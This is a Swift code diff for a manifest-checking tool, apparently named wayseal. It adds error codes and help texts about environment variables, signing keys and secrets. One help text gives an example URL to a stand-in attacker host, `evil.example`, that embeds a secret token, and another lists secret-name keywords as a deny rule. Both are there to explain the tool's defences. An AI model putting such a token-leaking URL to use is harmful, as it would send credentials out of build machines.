@@ -4,7 +4,7 @@ extension ManifestCodes {
     static let keys = [
         emptyManifest, unknownKey, misplacedKey, wrongKind, wrongValue, missingKey, conflictingKeys, notYet,
         wrongVersion,
-        referenceRefused, referenceSyntax, missingVariable, literalSecret,
+        referenceRefused, referenceSyntax, missingVariable, deploymentVariable, keyMissing, wrongKey, literalSecret,
     ]
 
     static let emptyManifest = define(
@@ -77,8 +77,8 @@ extension ManifestCodes {
         """
         A manifest may come from a pull request, and the machine that builds it has secrets in its environment. If
         `to: https://evil.example/?${TOKEN}` were filled in, the first scan would carry the token away. References are
-        read only in fields that stay private (keys, passwords, tokens) or say how one machine is set up (listen, tls,
-        hsts, server). For a literal `${` write `$${`.
+        read only in fields that stay private (keys, passwords, tokens) or, if their names begin with WAYSEAL_, in those
+        that say how one machine is set up (listen, tls, hsts, server). For a literal `${` write `$${`.
         """,
         bad: "links:\n  a: \"https://example.org/?${TOKEN}\"",
         mended: "links:\n  a: https://example.org/")
@@ -96,10 +96,38 @@ extension ManifestCodes {
         The manifest refers to a variable of the environment that wayseal was started in. Set it, or give a default:
         ${NAME:-default}. Values of variables are never printed.
         """,
-        bad: "domains: { go.example.org: { listen: \"${LISTEN}\" } }\nlinks: { a: https://example.org/ }",
+        bad: "domains: { go.example.org: { listen: \"${WAYSEAL_LISTEN}\" } }\nlinks: { a: https://example.org/ }",
         mended:
-            "domains: { go.example.org: { listen: \"${LISTEN:-8080}\" } }\nlinks: { a: https://example.org/ }"
+            "domains: { go.example.org: { listen: \"${WAYSEAL_LISTEN:-8080}\" } }\nlinks: { a: https://example.org/ }"
     )
+    static let deploymentVariable = define(
+        "deployment-variable", "a variable that may not become a part of the configuration",
+        """
+        `server`, `listen`, `tls` and `hsts` end up in the servers' configuration, so `certificate: "/x/${AWS_SECRET}"`
+        would write a secret into it. There only variables are read whose names are WAYSEAL_ and capital letters, digits
+        and underscores, and none with the word PASSPHRASE, PASSWORD, SECRET or TOKEN. `${file:…}` is for secrets alone.
+        """,
+        bad: "domains: { go.example.org: { listen: \"${PORT:-8080}\" } }\nlinks: { a: https://example.org/ }",
+        mended:
+            "domains: { go.example.org: { listen: \"${WAYSEAL_LISTEN:-8080}\" } }\nlinks: { a: https://example.org/ }"
+    )
+    static let keyMissing = define(
+        "key-missing", "the signing key is not on this machine",
+        """
+        The manifest can be read, checked and compared without the key, for example in a pull request; a build is
+        refused, because it would not be signed. `wayseal keys new` makes a key. For builds that are unsigned on purpose
+        where the key is missing write ${NAME:-}.
+        """,
+        bad: "ledger: { key: \"${file:secrets/none.key}\" }",
+        mended: "ledger: { key: \"${file:secrets/ledger.key}\" }")
+    static let wrongKey = define(
+        "wrong-key", "the signing key is no PKCS#8 key",
+        """
+        A key is the text of a PEM file that begins with -----BEGIN PRIVATE KEY----- or -----BEGIN ENCRYPTED PRIVATE
+        KEY-----, as `wayseal keys new` writes it. A variable that holds a key holds all its lines.
+        """,
+        bad: "ledger: { key: \"none${LEDGER_KEY:-}\" }",
+        mended: "ledger: { key: \"${LEDGER_KEY:-}\" }")
     static let literalSecret = define(
         "literal-secret", "a secret is written into the manifest",
         """
